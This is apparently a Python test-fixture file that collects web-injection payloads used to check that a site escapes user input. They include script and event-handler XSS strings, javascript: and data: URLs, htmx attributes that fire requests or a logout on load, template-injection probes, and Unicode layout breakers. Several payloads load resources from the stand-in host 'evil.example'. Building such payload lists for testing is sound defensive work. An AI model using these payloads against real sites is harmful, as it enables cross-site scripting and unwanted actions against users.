"""Strings that want to be more than text: scripts, handlers, templates, htmx attributes, and what breaks a layout.

Each tells if it ever runs: it opens a dialog, sets `window.pwned`, or calls a host that is not ours.
"""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
CALL = "//evil.example/"

PAYLOADS = (
    # scripts
    f"<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<script src={CALL}x.js></script>",
    f'<script type="module">{RUN}</script>',
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'" autofocus onfocus="{RUN}" x="',
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>",
    f"<base href={CALL}>",
    f"<meta http-equiv=refresh content='0;url={CALL}'>",
    f"<link rel=stylesheet href={CALL}x.css>",
    f"<img src={CALL}x.png>",
    f"<style>@import '{CALL}x.css';</style>",
    f'<p style="background:url({CALL}x.png)">',
    # htmx
    f"<div hx-get={CALL} hx-trigger=load>",
    f'" hx-get="{CALL}" hx-trigger="load" x="',
    "<div hx-delete=/deals/ hx-trigger=load>",
    f'<div hx-on::load="{RUN}">',
    f"<div hx-on:htmx:load='{RUN}'>",
    f"<div data-hx-get='{CALL}' data-hx-trigger='load'>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-get='/' hx-trigger='load'>",
    "<div hx-swap-oob='innerHTML:body'>gone</div>",
    "<div id=panel hx-swap-oob=true>gone</div>",
    f"<div hx-ext='x' hx-headers='js:{{a:{RUN}}}' hx-post=/account/logout/ hx-trigger=load>",
    # templates
    "{{ 7|add:7 }}{% load static %}{% now 'Y' %}",
    "{{constructor.constructor('alert(1)')()}}",
    f"${{{RUN}}}`${{alert(1)}}`",
    "#{7*7}<%= 7*7 %>{{=7*7}}",
    "%(name)s %s {0.__class__} {x} %n",
    # breaking out of places
    "'\"`><!--</div></main></body></html>",
    "</td></tr></table><h1>gone</h1>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    f"<template><script>{RUN}</script></template>",
    "<plaintext>",
    "<!--",
    "<x" + " y=z" * 40,
    # writing
    "\u202egnp.exe\u202c <b>rückwärts</b>",
    "\u2066\u2067\u2068verschachtelt\u2069\u2069\u2069",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 2,
    "W" * 200,
    "e" + "\u0301" * 150,
    "🏴\U000e0067\U000e0062👩‍👩‍👧‍👦" * 10,
    "\u200b\ufeffunsichtbar\u00ad\u2060",
    "ﷺ" * 60,
)
